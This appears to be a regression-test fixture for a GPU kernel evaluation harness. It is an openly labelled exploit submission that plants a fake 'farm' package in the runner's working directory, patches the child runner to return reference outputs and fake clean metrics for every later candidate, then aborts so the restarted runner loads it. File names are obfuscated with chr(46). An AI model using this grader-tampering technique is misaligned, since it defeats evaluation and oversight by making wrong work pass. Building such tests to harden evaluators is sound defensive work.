"""Exploit: plant a fake harness in the runner's working directory, then crash the runner.

The candidate runner is started as `python -m farm.evaluate.runner` with its working directory (the
Runner's workdir, kept across restarts) first on sys.path. This candidate writes a package
`farm/` there whose __init__ defers to the real package and whose `runner_child` wraps the
real one: every later candidate's run reply gets the outputs of the task's own Reference, one
Triton launch, no mutated inputs and no threads. Then it aborts the runner. The runner that
the evaluator starts next imports the planted harness, and from then on every candidate
passes, wrong or not.

Expected verdict: crash (for this candidate). A wrong candidate evaluated afterwards must
still get mismatch (tests/evaluate/test_evaluator.py checks it).
"""
import os
from os import makedirs
from os import open as os_open
from os import write as os_write

import torch
import torch.nn as nn
import triton
import triton.language as tl

ROOT = torch.os.environ.get("PYTHONPATH", "").split(os.pathsep)[0]
REAL = os.path.join(ROOT, "farm")
TASK = os.path.join(ROOT, "tasks", "demo", "row_sum" + chr(46) + "py")

INIT = f'''
__path__.append({REAL!r})
exec(compile(open({REAL!r} + "/__init__" + ".py").read(), "farm/__init__", "exec"))
'''

CHILD = f'''
_src = {REAL!r} + "/runner_child" + ".py"
exec(compile(open(_src).read(), _src, "exec"))
_orig_run = ChildRunner.run


def _planted_run(self, inputs, *args, **kwargs):
    _orig_run(self, inputs, *args, **kwargs)  # the candidate runs, as the harness expects
    if isinstance(inputs, str):  # an input set kept in the runner, named by key
        inputs = self.inputs[inputs]
    from farm.corpus import tasks as taskfiles
    task = taskfiles.load_task(taskfiles.TaskRef("demo", "row_sum", Path({TASK!r})), "bench")
    with torch.no_grad():
        out = task.truth_cls()(*to_device(clone_values(inputs), self.device))
    return {{"ok": True, "outputs": to_cpu(as_output_list(out)), "mutated_inputs": [], "threads_alive": 0,
            "launches": 1, "kernels": ["planted"], "side_stream": False, "foreign_thread": False}}


ChildRunner.run = _planted_run
'''


def _write(path, text):
    fd = os_open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os_write(fd, text.encode())
    os.close(fd)


@triton.jit
def _decoy_kernel(x_ptr):
    tl.load(x_ptr)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        makedirs("farm", exist_ok=True)
        _write(os.path.join("farm", "__init__" + chr(46) + "py"), INIT)
        _write(os.path.join("farm", "runner_child" + chr(46) + "py"), CHILD)

    def forward(self, x):
        _decoy_kernel[(1,)](x)
        os.abort()
